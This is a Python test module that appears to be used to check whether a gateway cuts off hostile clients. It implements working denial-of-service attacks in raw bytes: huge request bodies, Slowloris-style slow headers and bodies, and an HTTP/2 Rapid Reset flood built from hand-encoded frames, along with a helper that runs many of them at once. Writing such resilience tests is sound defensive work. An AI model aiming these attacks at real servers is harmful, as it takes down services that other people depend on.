"""What a hostile client does, in raw bytes, each until the gateway ends it."""

from __future__ import annotations

import asyncio
import struct
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from urllib.parse import urlsplit

from tests.benchmarks.http_load import request

_CHUNK = b"\0" * 65_536
_DRIP_S = 1.0
_PATIENCE_S = 90.0
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS, _HEADERS, _RESET = 4, 1, 3
_END_HEADERS, _END_STREAM = 4, 1
_CANCEL = 8
_RESETS_AT_ONCE = 50
_MOST_RESETS = 100_000


@dataclass(frozen=True)
class Target:
    """Whom to attack, as whom."""

    url: str
    token: str

    @property
    def head(self) -> dict[str, str]:
        return {"authorization": f"Bearer {self.token}", "content-type": "application/json"}

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        parts = urlsplit(self.url)
        return await asyncio.open_connection(parts.hostname, parts.port)


async def large_body(target: Target, size: int, *, told: bool) -> int:
    """Sends a body as fast as it is taken; returns the status it is answered with, 0 for none.

    Args:
        target: What is attacked.
        size: Of the body, bytes.
        told: Whether the head says how long it is; else it comes in chunks.
    """
    reader, writer = await target.connect()
    length = {"content-length": str(size)} if told else {"transfer-encoding": "chunked"}
    piece = _CHUNK if told else b"%x\r\n%b\r\n" % (len(_CHUNK), _CHUNK)
    head = request("POST", f"{target.url}/v1/videos", {**target.head, **length})
    writer.write(head.replace(b"content-length: 0\r\n", b"", 1))
    answer = asyncio.create_task(reader.readuntil(b"\r\n"))
    with suppress(OSError):
        for _ in range(size // len(_CHUNK)):
            if answer.done() or writer.is_closing():
                break
            writer.write(piece)
            await writer.drain()
    return await _answered(answer, writer)


async def slow_headers(target: Target) -> float:
    """Sends a request a byte a second; returns after how long it was cut off."""
    return await _drip(target, b"GET /v1/account HTTP/1.1\r\nhost: kinemesh\r\nx-slow: ", b"a")


async def slow_body(target: Target) -> float:
    """Sends a body a byte a second; returns after how long it was cut off."""
    head = request("POST", f"{target.url}/v1/videos", {**target.head, "content-length": "100000"})
    return await _drip(target, head.replace(b"content-length: 0\r\n", b"", 1), b" ")


async def rapid_reset(target: Target) -> int:
    """Opens streams of HTTP/2 and resets each at once; returns after how many the connection was closed."""
    reader, writer = await target.connect()
    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
    closed = asyncio.create_task(_until_closed(reader))
    block = _literals({":method": "GET", ":scheme": "http", ":path": "/v1/account", ":authority": "kinemesh"})
    block += _literals({"authorization": f"Bearer {target.token}"})
    sent = 0
    with suppress(OSError):
        while not closed.done() and not writer.is_closing() and sent < _MOST_RESETS:
            batch = b"".join(_reset(2 * number + 1, block) for number in range(sent, sent + _RESETS_AT_ONCE))
            sent += _RESETS_AT_ONCE
            writer.write(batch)
            await writer.drain()
            await asyncio.sleep(0)
    closed.cancel()
    writer.close()
    return sent


async def all_of(count: int, attack: Callable[[], Awaitable[float]]) -> list[float]:
    """Does it so many times at once."""
    return list(await asyncio.gather(*(attack() for _ in range(count))))


async def _drip(target: Target, head: bytes, drop: bytes) -> float:
    reader, writer = await target.connect()
    started = time.monotonic()
    writer.write(head)
    closed = asyncio.create_task(_until_closed(reader))
    with suppress(OSError):
        while not (closed.done() or writer.is_closing()) and time.monotonic() - started < _PATIENCE_S:
            writer.write(drop)
            await writer.drain()
            await asyncio.wait({closed}, timeout=_DRIP_S)
    closed.cancel()
    writer.close()
    return time.monotonic() - started


async def _answered(answer: asyncio.Task[bytes], writer: asyncio.StreamWriter) -> int:
    try:
        async with asyncio.timeout(_PATIENCE_S):
            return int((await answer).split()[1])
    except (OSError, asyncio.IncompleteReadError, TimeoutError):
        return 0
    finally:
        writer.close()


async def _until_closed(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(65_536):
            pass


def _reset(stream: int, block: bytes) -> bytes:
    opened = _frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, block)
    return opened + _frame(_RESET, 0, stream, struct.pack(">I", _CANCEL))


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """RFC 9113, 4.1."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literals(headers: dict[str, str]) -> bytes:
    """Headers as RFC 7541, 6.2.2 writes them without an index and without Huffman's code."""
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in headers.items())


def _text(text: str) -> bytes:
    """RFC 7541, 5.1 and 5.2."""
    data, length = text.encode(), len(text)
    if length < 127:
        return bytes([length]) + data
    prefix, rest = [127], length - 127
    while rest >= 128:
        prefix.append(rest % 128 + 128)
        rest //= 128
    return bytes([*prefix, rest]) + data
